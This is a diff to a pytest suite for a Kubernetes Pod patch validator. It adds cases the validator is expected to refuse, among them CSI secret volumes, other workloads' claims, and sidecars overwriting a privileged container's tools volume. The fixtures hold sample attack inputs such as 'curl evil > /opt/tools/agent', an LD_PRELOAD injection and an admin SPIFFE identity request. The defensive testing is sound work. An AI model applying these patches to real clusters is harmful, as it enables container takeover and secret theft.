@@ -102,6 +102,28 @@ CREDENTIAL = (
 )
 ALLOW_CREDENTIAL = {"allow_service_account_tokens": True}
 
+STORE = "secrets-store.csi.k8s.io"
+CERTS = "csi.cert-manager.io"
+DB = {"secretProviderClass": "db"}
+ISSUER = {
+    "csi.cert-manager.io/issuer-name": "mesh-ca",
+    "csi.cert-manager.io/issuer-kind": "ClusterIssuer",
+    "csi.cert-manager.io/uri-sans": "spiffe://cluster.local/ns/payments/sa/admin",
+}
+CSI = ("weakens control 'CSI Drivers'", f"add {STORE} to patchPolicy.allowedCsiDrivers")
+ALLOW_CSI = {"allowed_csi_drivers": [STORE]}
+CLAIM = ("weakens control 'Volume Claims'", "add other to patchPolicy.allowedClaims")
+ALLOW_CLAIM = {"allowed_claims": ["other"]}
+CLONE = {"kind": "PersistentVolumeClaim", "name": "other"}
+SNAPSHOT = {"apiGroup": "snapshot.storage.k8s.io", "kind": "VolumeSnapshot", "name": "other"}
+
+
+def ephemeral(name: str = "x", **claim: Any) -> dict[str, Any]:
+    """An ephemeral volume whose claim template's spec has ``claim`` besides a size."""
+    spec = {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}
+    return {"name": name, "ephemeral": {"volumeClaimTemplate": {"spec": {**spec, **claim}}}}
+
+
 ESCALATIONS: dict[str, tuple[dict[str, Any], Ops, str, tuple[str, ...], dict[str, Any]]] = {
     "secret volume": (
         template(),
@@ -137,7 +159,96 @@ ESCALATIONS: dict[str, tuple[dict[str, Any], Ops, str, tuple[str, ...], dict[str
         ],
         "/spec/volumes/0",
         SECRET,
-        ALLOW_SECRET,
+        {**ALLOW_SECRET, "allowed_csi_drivers": ["d"]},
+    ),
+    "Secrets Store CSI volume": (
+        template(),
+        [
+            op(
+                "add",
+                "/spec/volumes",
+                [volume(csi={"driver": STORE, "volumeAttributes": {"secretProviderClass": "db"}})],
+            ),
+            op("add", f"{ENGINE}/volumeMounts", [MOUNT]),
+        ],
+        "/spec/volumes/0",
+        (
+            f"the Pod mounts an inline CSI volume of driver '{STORE}' with volumeAttributes "
+            '{"secretProviderClass": "db"}',
+            *CSI,
+        ),
+        ALLOW_CSI,
+    ),
+    "cert-manager CSI certificate": (
+        template(),
+        [op("add", "/spec/volumes", [volume(csi={"driver": CERTS, "volumeAttributes": ISSUER})])],
+        "/spec/volumes/0",
+        (
+            "csi.cert-manager.io/uri-sans",
+            "add csi.cert-manager.io to patchPolicy.allowedCsiDrivers",
+        ),
+        {"allowed_csi_drivers": [CERTS]},
+    ),
+    "SPIFFE CSI socket": (
+        template(),
+        [op("add", "/spec/volumes", [volume(csi={"driver": "csi.spiffe.io", "readOnly": True})])],
+        "/spec/volumes/0",
+        ("driver 'csi.spiffe.io', which weakens control 'CSI Drivers'",),
+        {"allowed_csi_drivers": ["csi.spiffe.io"]},
+    ),
+    "the template's CSI driver with other attributes": (
+        template(volumes=[{"name": "db", "csi": {"driver": STORE, "volumeAttributes": DB}}]),
+        [
+            op(
+                "add",
+                "/spec/volumes/-",
+                volume(csi={"driver": STORE, "volumeAttributes": {"secretProviderClass": "admin"}}),
+            )
+        ],
+        "/spec/volumes/1",
+        ('{"secretProviderClass": "admin"}', *CSI),
+        ALLOW_CSI,
+    ),
+    "another workload's PersistentVolumeClaim": (
+        template(),
+        [
+            op("add", "/spec/volumes", [volume(persistentVolumeClaim={"claimName": "other"})]),
+            op("add", f"{ENGINE}/volumeMounts", [MOUNT]),
+        ],
+        "/spec/volumes/0",
+        ("the Pod uses PersistentVolumeClaim 'other'", *CLAIM),
+        ALLOW_CLAIM,
+    ),
+    "the template's volume pointed at another claim": (
+        template(volumes=[volume(persistentVolumeClaim={"claimName": "models"})]),
+        [op("replace", "/spec/volumes/0/persistentVolumeClaim/claimName", "other")],
+        "/spec/volumes/0",
+        ("uses PersistentVolumeClaim 'other'", *CLAIM),
+        ALLOW_CLAIM,
+    ),
+    "ephemeral volume cloned from another claim (dataSourceRef)": (
+        template(),
+        [op("add", "/spec/volumes", [ephemeral(dataSourceRef=CLONE)])],
+        "/spec/volumes/0",
+        ("fills an ephemeral volume from PersistentVolumeClaim 'other'", *CLAIM),
+        ALLOW_CLAIM,
+    ),
+    "ephemeral volume from a snapshot (dataSource)": (
+        template(),
+        [op("add", "/spec/volumes", [ephemeral(dataSource=SNAPSHOT)])],
+        "/spec/volumes/0",
+        (
+            "fills an ephemeral volume from VolumeSnapshot (snapshot.storage.k8s.io) 'other'",
+            *CLAIM,
+        ),
+        ALLOW_CLAIM,
+    ),
+    "ephemeral volume bound to a PersistentVolume": (
+        template(),
+        [op("add", "/spec/volumes", [ephemeral(volumeName="other")])],
+        "/spec/volumes/0",
+        ("binds an ephemeral volume to PersistentVolume 'other'", *CLAIM),
+        ALLOW_CLAIM,
     ),
     "env secretKeyRef": (
         template(),
@@ -343,6 +454,35 @@ BENIGN: dict[str, tuple[dict[str, Any], Ops]] = {
             ),
         ],
     ),
+    "the template's claim mounted in a sidecar": (
+        template(volumes=[volume(persistentVolumeClaim={"claimName": "models"})]),
+        [op("add", "/spec/containers/-", SIDE)],
+    ),
+    "the template's claim in a second volume, read-only": (
+        template(volumes=[volume(persistentVolumeClaim={"claimName": "models"})]),
+        [
+            op(
+                "add",
+                "/spec/volumes/-",
+                {"name": "ro", "persistentVolumeClaim": {"claimName": "models", "readOnly": True}},
+            )
+        ],
+    ),
+    "an ephemeral volume without a data source": (
+        template(),
+        [op("add", "/spec/volumes", [ephemeral(storageClassName="fast")])],
+    ),
+    "the template's clone source in a second ephemeral volume": (
+        template(volumes=[ephemeral(dataSource=CLONE, dataSourceRef=CLONE)]),
+        [op("add", "/spec/volumes/-", ephemeral("y", dataSourceRef=CLONE))],
+    ),
+    "the template's CSI volume again, and mounted in a sidecar": (
+        template(volumes=[{"name": "db", "csi": {"driver": STORE, "volumeAttributes": DB}}]),
+        [
+            op("add", "/spec/volumes/-", volume(csi={"driver": STORE, "volumeAttributes": DB})),
+            op("add", "/spec/containers/-", SIDE),
+        ],
+    ),
     "the template's token mounted in a sidecar": (
         template(volumes=[volume(projected={"sources": [token("vault")]})]),
         [
@@ -403,10 +543,24 @@ def test_listed_secrets_and_accounts_only() -> None:
         PatchValidator(PatchPolicy(allowed_secrets=["admin-token"])).apply(pod, ops)
 
 
-@pytest.mark.parametrize("field", ["allowed_secrets", "allowed_service_accounts"])
+@pytest.mark.parametrize("field", ["allowed_secrets", "allowed_service_accounts", "allowed_claims"])
 def test_names_in_the_lists_must_be_object_names(field: str) -> None:
     with pytest.raises(ValidationError, match="is not an object name"):
         PatchPolicy.model_validate({field: ["Admin Token"]})
+
+
+def test_listed_csi_drivers_only_and_their_names() -> None:
+    ops = [op("add", "/spec/volumes", [volume(csi={"driver": "csi.spiffe.io"})])]
+    with pytest.raises(
+        PatchRejected, match=r"add csi\.spiffe\.io to patchPolicy\.allowedCsiDrivers"
+    ):
+        PatchValidator(PatchPolicy(allowed_csi_drivers=[STORE])).apply(template(), ops)
+    assert PatchPolicy(allowed_csi_drivers=["Driver_1.example.com"]).allowed_csi_drivers
+    with pytest.raises(ValidationError, match="is not a CSI driver name"):
+        PatchPolicy.model_validate({"allowedCsiDrivers": ["csi driver"]})
+    ops = [op("add", "/spec/volumes", [volume(csi={"driver": 7})])]
+    with pytest.raises(PatchRejected, match="driver 7, which is not a CSI driver name"):
+        PatchValidator().apply(template(), ops)
 
 
 # --- what runs in a privileged container -------------------------------------------------------
@@ -597,6 +751,241 @@ def test_a_read_only_mount_of_a_live_host_path_still_protects_the_container(
         *TAKEOVER,
         allow_privileged_container_changes=True,
     )
+
+
+# --- what writes a volume a privileged container mounts -----------------------------------------
+
+TOOLS = {"name": "tools", "emptyDir": {}}
+SOURCE = {"name": "source", "emptyDir": {}}
+RUNNER = {
+    "name": "agent",
+    "image": "agent:1",
+    "command": ["/opt/tools/agent"],
+    "volumeMounts": [{"name": "tools", "mountPath": "/opt/tools"}],
+    "securityContext": {"privileged": True},
+}
+FILLER = {
+    "name": "fill",
+    "image": "tools:1",
+    "command": ["cp", "/src/agent", "/opt/tools/agent"],
+    "volumeMounts": [
+        {"name": "tools", "mountPath": "/opt/tools"},
+        {"name": "source", "mountPath": "/src", "readOnly": True},
+    ],
+    "securityContext": RESTRICTED,
+}
+FETCHER = {
+    "name": "fetch",
+    "image": "fetch:1",
+    "volumeMounts": [{"name": "source", "mountPath": "/src"}],
+    "securityContext": RESTRICTED,
+}
+FILL = "/spec/initContainers/1"
+WRITER = {
+    "name": "plugin",
+    "image": "evil:1",
+    "command": ["sh", "-c", "cp /evil /opt/tools/agent"],
+    "volumeMounts": [{"name": "tools", "mountPath": "/opt/tools"}],
+    "securityContext": RESTRICTED,
+}
+OF_AGENT = "volume 'tools' that container 'agent' mounts, which runs privileged in the template"
+WRITES = (
+    "nor what writes a volume such a container mounts",
+    "or let plugins add that privilege: patchPolicy.allowPrivileged)",
+    *TAKEOVER,
+)
+
+
+def fed() -> dict[str, Any]:
+    """``agent`` runs privileged from the emptyDir ``tools``, which the init container ``fill``
+    fills from ``source``, which the init container ``fetch`` fills (one writer of a writer)."""
+    return template(RUNNER, volumes=[TOOLS, SOURCE, PAYLOAD], initContainers=[FETCHER, FILLER])
+
+
+FEEDS: dict[str, tuple[Ops, str, str]] = {
+    "an init container appended after the template's": (
+        [op("add", "/spec/initContainers/-", WRITER)],
+        "/spec/initContainers/2",
+        f"adds initContainer 'plugin', which writes {OF_AGENT}",
+    ),
+    "a native sidecar (restartPolicy Always)": (
+        [op("add", "/spec/initContainers/-", {**WRITER, "restartPolicy": "Always"})],
+        "/spec/initContainers/2",
+        f"adds initContainer 'plugin', which writes {OF_AGENT}",
+    ),
+    "a sidecar": (
+        [op("add", "/spec/containers/-", WRITER)],
+        "/spec/containers/2",
+        f"adds container 'plugin', which writes {OF_AGENT}",
+    ),
+    "a sidecar writing it as a block device": (
+        [
+            op(
+                "add",
+                "/spec/containers/-",
+                {
+                    **WRITER,
+                    "volumeMounts": [],
+                    "volumeDevices": [{"name": "tools", "devicePath": "/d"}],
+                },
+            )
+        ],
+        "/spec/containers/2",
+        "adds container 'plugin', which writes volume 'tools'",
+    ),
+    "a sidecar whose readOnly is false": (
+        [
+            op(
+                "add",
+                "/spec/containers/-",
+                {
+                    **WRITER,
+                    "volumeMounts": [{"name": "tools", "mountPath": "/t", "readOnly": False}],
+                },
+            )
+        ],
+        "/spec/containers/2",
+        "adds container 'plugin', which writes volume 'tools'",
+    ),
+    "a ConfigMap over the source file of the template's filler": (
+        [
+            op("add", f"{FILL}/volumeMounts/-", {"name": "payload", "mountPath": "/src/agent"}),
+        ],
+        f"{FILL}/volumeMounts",
+        f"changes the volumeMounts of initContainer 'fill', which writes {OF_AGENT}",
+    ),
+    "the filler's command": (
+        [op("replace", f"{FILL}/command", ["sh", "-c", "curl evil > /opt/tools/agent"])],
+        f"{FILL}/command",
+        "changes the command of initContainer 'fill'",
+    ),
+    "the filler's env": (
+        [op("add", f"{FILL}/env", [{"name": "LD_PRELOAD", "value": "/src/x.so"}])],
+        f"{FILL}/env",
+        "changes the env of initContainer 'fill'",
+    ),
+    "a read-only mount of the template made writable": (
+        [op("remove", f"{FILL}/volumeMounts/1/readOnly")],
+        f"{FILL}/volumeMounts",
+        "changes the volumeMounts of initContainer 'fill'",
+    ),
+    "the engine given a writable mount": (
+        [op("add", f"{ENGINE}/volumeMounts", [{"name": "tools", "mountPath": "/t"}])],
+        f"{ENGINE}/volumeMounts/0",
+        f"lets container 'engine' write {OF_AGENT}",
+    ),
+    "what the filler copies from (a writer of a writer)": (
+        [
+            op(
+                "add",
+                "/spec/containers/-",
+                {**WRITER, "volumeMounts": [{"name": "source", "mountPath": "/s"}]},
+            )
+        ],
+        "/spec/containers/2",
+        "adds container 'plugin', which writes volume 'source' that initContainer 'fill' mounts, "
+        f"which writes {OF_AGENT}",
+    ),
+    "the image of the writer of the writer": (
+        [op("replace", "/spec/initContainers/0/image", "evil:1")],
+        "/spec/initContainers/0/image",
+        "changes the image of initContainer 'fetch', which writes volume 'source'",
+    ),
+    "the volume the filler copies from replaced": (
+        [op("replace", "/spec/volumes/1", {**PAYLOAD, "name": "source"})],
+        "/spec/volumes/1",
+        "changes the volume 'source' of initContainer",
+    ),
+}
+
+
+@pytest.mark.parametrize(("ops", "path", "says"), list(FEEDS.values()), ids=list(FEEDS))
+def test_what_writes_a_volume_a_privileged_container_mounts_may_not_change(
+    ops: Ops, path: str, says: str
+) -> None:
+    refused(fed(), ops, path, says, *WRITES, allow_privileged_container_changes=True)
+
+
+def test_a_writer_of_a_volume_of_a_granted_container_names_its_grant() -> None:
+    pod = template(agent(capabilities={"add": ["SYS_ADMIN"]}), volumes=[STATE])
+    refused(
+        pod,
+        [
+            op(
+                "add",
+                "/spec/initContainers",
+                [{**WRITER, "volumeMounts": [{"name": "state", "mountPath": "/s"}]}],
+            )
+        ],
+        "/spec/initContainers/0",
+        "writes volume 'state' that container 'agent' mounts, which adds capability SYS_ADMIN",
+        "or let plugins add that privilege: patchPolicy.allowedCapabilities)",
+        *TAKEOVER,
+        allow_privileged_container_changes=True,
+    )
+
+
+NOT_FEEDS: dict[str, tuple[Ops, dict[str, Any]]] = {
+    "a sidecar that reads the volume": (
+        [
+            op(
+                "add",
+                "/spec/containers/-",
+                {
+                    **WRITER,
+                    "volumeMounts": [{"name": "tools", "mountPath": "/t", "readOnly": True}],
+                },
+            )
+        ],
+        {},
+    ),
+    "a sidecar writing a volume of its own": (
+        [
+            op("add", "/spec/volumes/-", {"name": "own", "emptyDir": {}}),
+            op(
+                "add",
+                "/spec/containers/-",
+                {**WRITER, "volumeMounts": [{"name": "own", "mountPath": "/o"}]},
+            ),
+        ],
+        {},
+    ),
+    "the engine's env (it mounts no volume of the agent)": (
+        [op("add", f"{ENGINE}/env", [{"name": "A", "value": "1"}])],
+        {},
+    ),
+    "the filler's resources": (
+        [op("add", f"{FILL}/resources", {"limits": {"cpu": "1"}})],
+        {},
+    ),
+    "a privilege the policy lets plugins add": (
+        [op("add", "/spec/initContainers/-", WRITER)],
+        {"allow_privileged": True},
+    ),
+}
+
+
+@pytest.mark.parametrize(("ops", "policy"), list(NOT_FEEDS.values()), ids=list(NOT_FEEDS))
+def test_what_feeds_no_privileged_container_passes(ops: Ops, policy: dict[str, Any]) -> None:
+    passes(fed(), ops, **{"allowed_paths": OPEN, **policy})
+
+
+def test_read_only_volume_types_and_host_paths_have_no_writers() -> None:
+    """The kubelet mounts ConfigMap, Secret, downwardAPI and projected volumes read-only; a
+    hostPath volume is the HostPath control's (mounting it is refused by allowHostPath)."""
+    pod = template(
+        {**RUNNER, "volumeMounts": [{"name": "payload", "mountPath": "/opt/tools"}]},
+        volumes=[PAYLOAD],
+    )
+    sidecar = {**WRITER, "volumeMounts": [{"name": "payload", "mountPath": "/p"}]}
+    passes(pod, [op("add", "/spec/containers/-", sidecar)], allowed_paths=OPEN)
+    pod["spec"]["volumes"] = [
+        {"name": "payload", "hostPath": {"path": "/opt/tools", "type": "Directory"}}
+    ]
+    with pytest.raises(PatchRejected, match="weakens Pod Security control 'HostPath Volumes'"):
+        PatchValidator(PatchPolicy(allowed_paths=OPEN)).apply(
+            pod, [op("add", "/spec/containers/-", sidecar)]
+        )
 
 
 NOT_TAKEOVERS: dict[str, tuple[dict[str, Any], Ops, dict[str, Any]]] = {
